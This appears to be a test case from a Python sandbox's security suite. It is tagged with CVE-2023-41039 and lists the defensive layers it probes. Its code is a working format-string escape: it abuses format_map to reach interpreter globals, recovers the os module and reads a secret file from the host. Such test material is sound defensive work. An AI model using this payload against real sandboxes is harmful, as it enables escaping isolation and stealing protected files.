# class: format strings
# technique: format_map reads items and attributes of a mapping's values
# advisory: CVE-2023-41039
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
try:
    "{q.__init__.__globals__[sys].nothing}".format_map({"q": quit})
except AttributeError as error:
    g = {"sys": error.obj}
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
